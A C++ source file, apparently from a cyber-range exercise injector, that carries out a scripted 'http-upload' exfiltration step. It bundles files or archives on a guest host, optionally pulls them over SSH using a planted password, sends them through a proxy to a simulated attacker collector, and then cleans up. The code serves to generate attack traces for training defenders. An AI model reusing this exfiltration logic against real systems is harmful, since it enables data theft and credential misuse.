// http-upload: `actor` sends one file to the attacker's collector, in chunks: a file that lies in
// the guest, or so many bytes of what archive steps packed there.
//
// Needs: the way to the attacker, through a proxy where there is one. With `through` a workstation
// fetches it first, by SSH and with the password of an ssh-login step to that host, and sends it.
// Ceiling: 64 MiB. Leaves: the proxy's line, with the bytes; with `through` a session of sshd, and
// on the workstation the file that was fetched. That it was sent is confirmed here; that it arrived
// whole is what the collector says. Undone: the fetched file goes; the copy lies with the attacker,
// whose host goes with its range.
#include "injector/actions/ssh.h"
#include "injector/key.h"
#include "scenario-dsl/attack/traces.h"
#include "scenario-dsl/model/step_names.h"

namespace enshu::inject {
namespace {

constexpr std::int64_t ceiling = 64LL << 20;
constexpr auto nothing_there = 22;

std::string url(const ActContext &context, const dsl::HttpUpload &upload) {
    return "http://" + address_for(context, upload.to, upload.sender()) +
           dsl::upload_path(context.step.id);
}

/// Where what is sent is put together, or lies once it was fetched.
std::string collected_file(const ActContext &context, const dsl::HttpUpload &upload) {
    if (upload.through.empty())
        return "/var/tmp/." + context.step.id;
    return dsl::fetched_file(home_on(context, upload.through), context.step.id);
}

/// One file after the other, as far as they are there, is what goes out.
std::vector<std::string> sources(const ActContext &context, const dsl::HttpUpload &upload) {
    if (!upload.what.empty())
        return {upload.what};
    std::vector<std::string> files;
    for (const dsl::Step &step : context.scenario.attack)
        if (std::holds_alternative<dsl::Archive>(step.verb) && step.host() == upload.on)
            files.push_back(dsl::packed_file(step.id));
    return files;
}

std::string limit(const dsl::HttpUpload &upload) {
    return std::to_string(upload.size_bytes > 0 ? std::min(upload.size_bytes, ceiling) : ceiling);
}

[[noreturn]] void fail_without_source(const dsl::HttpUpload &upload) {
    throw ActFailed(upload.what.empty()
                        ? "no archive lies on `" + upload.on + "`"
                        : "`" + upload.what + "` is no longer on `" + upload.on + "`");
}

/// $1 bytes, $2 the file, $3… sources
constexpr auto put_together = R"sh(
most=$1
file=$2
shift 2
umask 077
cat -- "$@" 2>/dev/null | head -c "$most" >"$file"
[ -s "$file" ] || { rm -f "$file"; exit 22; }
)sh";

/// $1 address, $2 account, $3 the note, $4 bytes, $5 the file, $6… sources
constexpr auto fetch = R"sh(
[ -r "$3" ] || exit 20
password=$(password_in "$3" "$2")
[ -n "$password" ] || exit 21
at=$2@$1
most=$4
file=$5
shift 5
umask 077
mkdir -p "${file%/*}"
# The status is ssh's, which `head` ends early where there is more than is wanted.
status=$({ { sign_in "$password" -n "$at" cat -- "$@"; echo $? >&4; } | head -c "$most" >"$file"; } 4>&1)
if [ -s "$file" ]; then exit 0; fi
rm -f "$file"
[ "$status" = 255 ] && exit 255
exit 22
)sh";

/// The login with which the workstation gets into the host.
const dsl::SshLogin &way_in(const ActContext &context, const dsl::HttpUpload &upload) {
    for (const dsl::Step &step : context.scenario.attack)
        if (const auto *login = std::get_if<dsl::SshLogin>(&step.verb))
            if (login->on == upload.through && login->to == upload.on)
                return *login;
    throw ActFailed("no ssh-login step leads from `" + upload.through + "` to `" + upload.on + "`");
}

void fetch_it(const ActContext &context, const dsl::HttpUpload &upload) {
    const dsl::SshLogin &login = way_in(context, upload);
    Script script{.text = std::string(ssh_functions) + fetch,
                  .arguments = {address_for(context, upload.on, upload.through), login.user,
                                login.planted, limit(upload), collected_file(context, upload)},
                  .user = user_of(context, upload.through)};
    for (const std::string &source : sources(context, upload))
        script.arguments.push_back(source);
    const RunResult result = run_script(context, upload.through, script, 4 * call_deadline);
    if (result.exit_code == nothing_there)
        fail_without_source(upload);
    if (result.exit_code != 0)
        throw ActFailed(why_no_login(context, login, result));
}

void put_it_together(const ActContext &context, const dsl::HttpUpload &upload) {
    Script script{.text = put_together,
                  .arguments = {limit(upload), collected_file(context, upload)},
                  .user = user_of(context, upload.on)};
    for (const std::string &source : sources(context, upload))
        script.arguments.push_back(source);
    const RunResult result = run_script(context, upload.on, script, 2 * call_deadline);
    if (result.exit_code == nothing_there)
        fail_without_source(upload);
    if (result.exit_code != 0)
        throw ActFailed("what is to be sent from `" + upload.on +
                        "` could not be put together: " + first_line(result.error));
}

void remove_collected(const ActContext &context, const dsl::HttpUpload &upload) {
    run_checked(context, upload.sender(),
                {"/usr/bin/rm", "-f", "--", collected_file(context, upload)}, call_deadline);
}

/// What `actor` says of the file that it sent.
nlohmann::json send(const ActContext &context, const dsl::HttpUpload &upload,
                    const std::string &file) {
    const std::string program = "/usr/lib/enshu/actor";
    const std::string user = user_of(context, upload.sender());
    std::vector<std::string> argv{
        "/usr/bin/setpriv", "--reuid=" + user, "--regid=" + user,   "--init-groups", "--", program,
        "upload",           "--url",           url(context, upload)};
    add_proxy(context, upload.via, upload.sender(), argv);
    argv.insert(argv.end(), {"--key", "-", "--file", file});
    const std::string key = key_of(context.seed, context.team, context.step.id) + "\n";
    return parse_report(run_checked(context, upload.sender(), argv, 4 * call_deadline, key).output,
                        program);
}

} // namespace

nlohmann::json perform(const ActContext &context, const dsl::HttpUpload &upload) {
    nlohmann::json evidence{{"url", url(context, upload)}};
    if (!upload.what.empty())
        evidence["file"] = upload.what;
    if (upload.through.empty() && !upload.what.empty()) {
        add_file_facts(send(context, upload, upload.what), evidence);
        return evidence;
    }
    if (upload.through.empty())
        put_it_together(context, upload);
    else
        fetch_it(context, upload);
    add_file_facts(send(context, upload, collected_file(context, upload)), evidence);
    if (upload.size_bytes > 0)
        evidence["asked"] = upload.size_bytes; // more than the archives hold: all of it went, once
    if (upload.through.empty())
        remove_collected(context, upload);
    return evidence;
}

void undo(const ActContext &context, const dsl::HttpUpload &upload) {
    if (!upload.through.empty() || upload.what.empty())
        remove_collected(context, upload);
}

} // namespace enshu::inject
